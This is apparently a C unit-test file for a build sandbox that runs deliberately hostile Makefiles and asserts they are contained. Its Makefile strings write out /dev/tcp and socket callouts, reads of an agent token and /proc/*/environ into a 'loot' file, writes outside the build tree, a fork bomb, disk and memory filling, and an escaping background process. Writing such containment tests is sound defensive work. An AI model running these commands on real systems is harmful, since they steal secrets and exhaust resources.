// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Makefiles that mean harm, run by make in the sandbox that builds run in. What each must not be
 * able to do is looked for from outside: by who was called, what was written, what runs.
 */
#include "lib/test.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "agent/build-log.h"
#include "agent/kbuild.h"
#include "agent/sandbox.h"
#include "lib/alloc.h"
#include "lib/buf.h"
#include "lib/cleanup.h"
#include "lib/file.h"

#define SECRET "5e12e7f00dcafe5e12e7f00dcafe"
#define PROCESSES_MAX 64
/* So many shells at once, each with a child of its own, are no honest build. */
#define BOMB_IS_OFF 16

static char folder[] = "/tmp/runway-hostile-XXXXXX";
static char *out, *source, *agent_state, *token;
static bool usable;

static void keep(void *data, const char *bytes, size_t count)
{
	buf_append_some(data, bytes, count);
}

static int setup(void **state)
{
	(void)state;
	usable = !sandbox_probe(NULL);
	if (!mkdtemp(folder))
		return -1;
	out = xasprintf("%s/out", folder);
	source = xasprintf("%s/src", folder);
	agent_state = xasprintf("%s/agent", folder);
	token = xasprintf("%s/token", agent_state);
	setenv("RUNWAY_TOKEN", SECRET, 1);
	return file_make_folder(source, 0755, NULL) ?: file_make_folder(agent_state, 0755, NULL)
	       ?: file_write(token, SECRET "\n", strlen(SECRET) + 1, 0644, NULL);
}

static int finish(void **state)
{
	(void)state;
	free(out);
	free(source);
	free(agent_state);
	free(token);
	return file_remove_tree(folder, NULL);
}

struct build {
	struct sandbox_spec spec;
	struct buf output;
	struct proc_result result;
	int rc;
};

/* Runs the Makefile in a fresh /out, with /src beside it as the kernel's source is. */
static void make(const char *makefile, struct build *build)
{
	static const char *const argv[] = { "make", "-f", "/src/Makefile", NULL };
	const struct sandbox_bind binds[] = { { source, "/src", false },
					      { out, "/out", true },
					      { NULL, NULL, false } };
	CLEANUP(free_ptr) char *path = xasprintf("%s/Makefile", source);

	if (!usable)
		skip();
	assert_int_equal(file_remove_tree(out, NULL), 0);
	assert_int_equal(file_make_folder(out, 0755, NULL), 0);
	assert_int_equal(file_write(path, makefile, strlen(makefile), 0644, NULL), 0);
	build->output = BUF_INIT(1 << 20);
	build->spec.argv = argv;
	build->spec.binds = binds;
	build->spec.folder = "/out";
	if (!build->spec.output) {
		build->spec.output = keep;
		build->spec.data = &build->output;
	}
	if (!build->spec.time_limit_ms)
		build->spec.time_limit_ms = 60000;
	build->rc = sandbox_run(&build->spec, &build->result, NULL);
}

static bool is_there(const char *name)
{
	CLEANUP(free_ptr) char *path = xasprintf("%s/%s", out, name);

	return access(path, F_OK) == 0;
}

/* Whatever the one before did, the next build works. */
static void the_next_build_lives(void)
{
	struct build build = { 0 };

	make("all:\n\techo good > good\n", &build);
	assert_int_equal(build.rc, 0);
	assert_int_equal(build.result.end, PROC_EXITED);
	assert_int_equal(build.result.status, 0);
	assert_true(is_there("good"));
	buf_release(&build.output);
}

/* Processes of this machine whose command line has that word. */
static unsigned count_processes(const char *word)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	unsigned count = 0;

	while ((entry = readdir(proc))) {
		CLEANUP(free_ptr) char *path = xasprintf("/proc/%s/cmdline", entry->d_name);
		CLEANUP(buf_release) struct buf line = BUF_INIT(1 << 16);

		if (*entry->d_name < '1' || *entry->d_name > '9' ||
		    file_read(path, &line, NULL) < 0)
			continue;
		count += memmem(line.data, line.length, word, strlen(word)) != NULL;
	}
	closedir(proc);
	return count;
}

static int listen_on(struct sockaddr *address, socklen_t bytes)
{
	int fd = socket(address->sa_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	assert_true(fd >= 0);
	assert_int_equal(bind(fd, address, bytes), 0);
	assert_int_equal(listen(fd, 10), 0);
	return fd;
}

static void nobody_is_called(void **state)
{
	struct sockaddr_in loopback = { .sin_family = AF_INET,
					.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_un abstract = { .sun_family = AF_UNIX };
	socklen_t bytes = sizeof(loopback);
	CLEANUP(close_fd) int tcp = listen_on((struct sockaddr *)&loopback, sizeof(loopback));
	CLEANUP(close_fd) int local = -1;
	CLEANUP(free_ptr) char *makefile = NULL;
	struct build build = { 0 };

	(void)state;
	snprintf(abstract.sun_path + 1, sizeof(abstract.sun_path) - 1, "runway-hostile-%d",
		 getpid());
	local = listen_on((struct sockaddr *)&abstract, sizeof(abstract));
	assert_int_equal(getsockname(tcp, (struct sockaddr *)&loopback, &bytes), 0);
	makefile =
		xasprintf("SHELL = /bin/bash\n"
			  "all:\n"
			  "\t-echo hello > /dev/tcp/127.0.0.1/%d\n"
			  "\t-echo hello > /dev/tcp/192.0.2.1/80\n"
			  "\t-perl -e 'use Socket; socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, "
			  "pack(\"Sa108\", AF_UNIX, \"\\0runway-hostile-%d\")) or die \"$$!\"'\n"
			  "\techo tried > tried\n",
			  ntohs(loopback.sin_port), getpid());
	make(makefile, &build);
	assert_true(is_there("tried"));
	assert_int_equal(accept(tcp, NULL, NULL), -1);
	assert_int_equal(errno, EAGAIN);
	assert_int_equal(accept(local, NULL, NULL), -1);
	assert_int_equal(errno, EAGAIN);
	buf_release(&build.output);
	the_next_build_lives();
}

static void the_agents_token_and_state_are_not_found(void **state)
{
	CLEANUP(free_ptr)
	char *makefile = xasprintf(
		"all:\n"
		"\t@-cat %s > loot 2>&1\n"
		"\t@-cat /proc/*/environ >> loot 2>/dev/null\n"
		"\t@-cat /proc/1/root%s /proc/self/root%s >> loot 2>&1\n"
		"\t@-grep -rsa --exclude-dir=usr --exclude-dir=proc --exclude-dir=src " SECRET
		" / >> found 2>/dev/null\n"
		"\t@-ls -R %s >> loot 2>&1\n"
		"\t@set >> loot\n"
		"\techo tried > tried\n",
		token, token, token, agent_state);
	CLEANUP(free_ptr) char *loot_path = xasprintf("%s/loot", out);
	CLEANUP(free_ptr) char *found_path = xasprintf("%s/found", out);
	CLEANUP(buf_release) struct buf loot = BUF_INIT(16 << 20);
	struct build build = { 0 };

	(void)state;
	make(makefile, &build);
	assert_true(is_there("tried"));
	assert_int_equal(file_read(loot_path, &loot, NULL), 0);
	assert_int_equal(file_read(found_path, &loot, NULL), 0);
	assert_true(loot.length > 0);
	assert_null(memmem(loot.data, loot.length, SECRET, strlen(SECRET)));
	assert_null(memmem(build.output.data, build.output.length, SECRET, strlen(SECRET)));
	buf_release(&build.output);
	the_next_build_lives();
}

static void nothing_outside_the_tree_is_written(void **state)
{
	CLEANUP(free_ptr) char *kept = xasprintf("%s/kept", agent_state);
	CLEANUP(free_ptr) char *mark = xasprintf("/usr/runway-hostile-%d", getpid());
	CLEANUP(free_ptr) char *source_mark = xasprintf("%s/added", source);
	CLEANUP(free_ptr) char *agent_mark = xasprintf("%s/added", agent_state);
	CLEANUP(free_ptr)
	char *makefile = xasprintf("all:\n"
				   "\t-echo bad > %s\n"
				   "\t-mkdir -p %s && echo bad > %s\n"
				   "\t-echo bad > %s\n"
				   "\t-echo bad > /src/added; echo bad >> /src/Makefile\n"
				   "\t-ln -s %s link; echo bad > link/added\n"
				   "\t-echo bad > /dev/shm/added && cp /dev/shm/added shm\n"
				   "\t-mount -o remount,rw /usr; chmod u+w /usr; echo bad > %s\n"
				   "\techo tried > tried\n",
				   kept, agent_state, agent_mark, mark, agent_state, mark);
	CLEANUP(free_ptr) char *makefile_path = xasprintf("%s/Makefile", source);
	CLEANUP(buf_release) struct buf text = BUF_INIT(4096);
	struct build build = { 0 };

	(void)state;
	assert_int_equal(file_write(kept, "ours", 4, 0666, NULL), 0);
	make(makefile, &build);
	assert_true(is_there("tried"));
	assert_false(is_there("shm"));
	assert_int_equal(access(mark, F_OK), -1);
	assert_int_equal(access(source_mark, F_OK), -1);
	assert_int_equal(access(agent_mark, F_OK), -1);
	assert_int_equal(file_read(makefile_path, &text, NULL), 0);
	assert_string_equal(text.data, makefile);
	buf_clear(&text);
	assert_int_equal(file_read(kept, &text, NULL), 0);
	assert_string_equal(text.data, "ours");
	buf_release(&build.output);
	the_next_build_lives();
}

static unsigned most_processes;
static uint64_t off_ms;

/* Asked a few times a second while it runs: it is let go on for a while when it is going off. */
static bool watch_bomb(void *data)
{
	unsigned now = count_processes("runway-bomb");

	(void)data;
	if (now > most_processes)
		most_processes = now;
	if (now > BOMB_IS_OFF && !off_ms)
		off_ms = clock_ms();
	return off_ms && clock_ms() - off_ms > 3000;
}

static void a_fork_bomb_stays_small_and_is_buried(void **state)
{
	struct build build = { .spec = { .processes_max = PROCESSES_MAX,
					 .time_limit_ms = 120000,
					 .cancelled = watch_bomb } };

	(void)state;
	if (geteuid())
		skip(); /* counted with all that this user runs: the number says nothing */
	most_processes = 0;
	off_ms = 0;
	make("all:\n"
	     "\techo tried > tried\n"
	     "\techo 'trap \"\" TERM; sh bomb runway-bomb & sh bomb runway-bomb & sleep 60; wait' "
	     "> "
	     "bomb\n"
	     "\tsh bomb runway-bomb\n"
	     "\tsleep 60\n",
	     &build);
	assert_true(is_there("tried"));
	assert_true(most_processes > BOMB_IS_OFF);
	assert_true(most_processes <= PROCESSES_MAX);
	assert_int_equal(count_processes("runway-bomb"), 0);
	buf_release(&build.output);
	the_next_build_lives();
}

static uint64_t written;

static int add_size(const char *path, const struct stat *status, int type, struct FTW *where)
{
	(void)path;
	(void)type;
	(void)where;
	written += (uint64_t)status->st_blocks * 512;
	return 0;
}

static void filling_the_disk_ends_it(void **state)
{
	struct build build = { .spec = { .file_max_bytes = 4 << 20,
					 .watch_folder = out,
					 .watch_max_bytes = 16 << 20,
					 .time_limit_ms = 60000 } };

	(void)state;
	/* As fast as four megabytes each tenth of a second: what comes between two looks is
	 * bounded. */
	make("all:\n\ti=0; while :; do head -c 100000000 /dev/zero > f$$i; i=$$((i+1)); sleep 0.1; "
	     "done\n",
	     &build);
	assert_int_equal(build.rc, -EDQUOT);
	written = 0;
	nftw(out, add_size, 16, FTW_PHYS);
	assert_true(written > 16 << 20 && written < 256 << 20);
	buf_release(&build.output);
	the_next_build_lives();
}

static void filling_memory_through_tmp_is_bounded(void **state)
{
	struct build build = { 0 };

	(void)state;
	make("all:\n\techo tried > tried\n\ttruncate -s 2G /tmp/sparse; df -B1 --output=size /tmp "
	     "> size\n",
	     &build);
	assert_true(is_there("tried"));
	CLEANUP(free_ptr) char *path = xasprintf("%s/size", out);
	CLEANUP(buf_release) struct buf size = BUF_INIT(4096);
	assert_int_equal(file_read(path, &size, NULL), 0);
	assert_non_null(strstr(size.data, "1073741824"));
	buf_release(&build.output);
}

static uint64_t logged;

static void count_logged(void *data, const char *bytes, size_t count)
{
	(void)data;
	(void)bytes;
	logged += count;
}

static void ten_gigabytes_of_output_end_early(void **state)
{
	const struct kbuild_watch watch = { .output = count_logged };
	struct build_log log = { .watch = &watch };
	struct build build = { .spec = { .output = build_log_add,
					 .cancelled = build_log_cancelled,
					 .data = &log,
					 .time_limit_ms = 120000 } };

	(void)state;
	logged = 0;
	make("all:\n\tyes 0123456789abcdef0123456789abcdef | head -c 10000000000; echo done > "
	     "done\n",
	     &build);
	build_log_judge(&log, &build.result);
	assert_int_equal(build.result.end, PROC_CANCELLED);
	assert_false(is_there("done"));
	assert_true(log.failed);
	assert_non_null(strstr(log.sentence, "printed more than"));
	assert_true(logged <= BUILD_LOG_MAX_BYTES);
	the_next_build_lives();
}

static void a_process_that_stays_behind_is_ended(void **state)
{
	CLEANUP(free_ptr) char *alive = xasprintf("%s/alive", out);
	struct build build = { 0 };
	struct stat before, after;

	(void)state;
	make("all:\n"
	     "\tsetsid nohup sh -c '(trap \"\" TERM HUP INT; while :; do date > alive; sleep 0.1; "
	     "done) & ' "
	     "runway-survivor >/dev/null 2>&1 &\n"
	     "\twhile [ ! -s alive ]; do sleep 0.1; done\n",
	     &build);
	assert_int_equal(build.result.status, 0);
	assert_int_equal(stat(alive, &before), 0);
	sleep(1);
	assert_int_equal(stat(alive, &after), 0);
	assert_int_equal(before.st_mtim.tv_sec, after.st_mtim.tv_sec);
	assert_int_equal(before.st_mtim.tv_nsec, after.st_mtim.tv_nsec);
	assert_int_equal(count_processes("runway-survivor"), 0);
	buf_release(&build.output);
	the_next_build_lives();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(nobody_is_called),
		cmocka_unit_test(the_agents_token_and_state_are_not_found),
		cmocka_unit_test(nothing_outside_the_tree_is_written),
		cmocka_unit_test(a_fork_bomb_stays_small_and_is_buried),
		cmocka_unit_test(filling_the_disk_ends_it),
		cmocka_unit_test(filling_memory_through_tmp_is_bounded),
		cmocka_unit_test(ten_gigabytes_of_output_end_early),
		cmocka_unit_test(a_process_that_stays_behind_is_ended),
	};

	return cmocka_run_group_tests_name("hostile-build", tests, setup, finish);
}
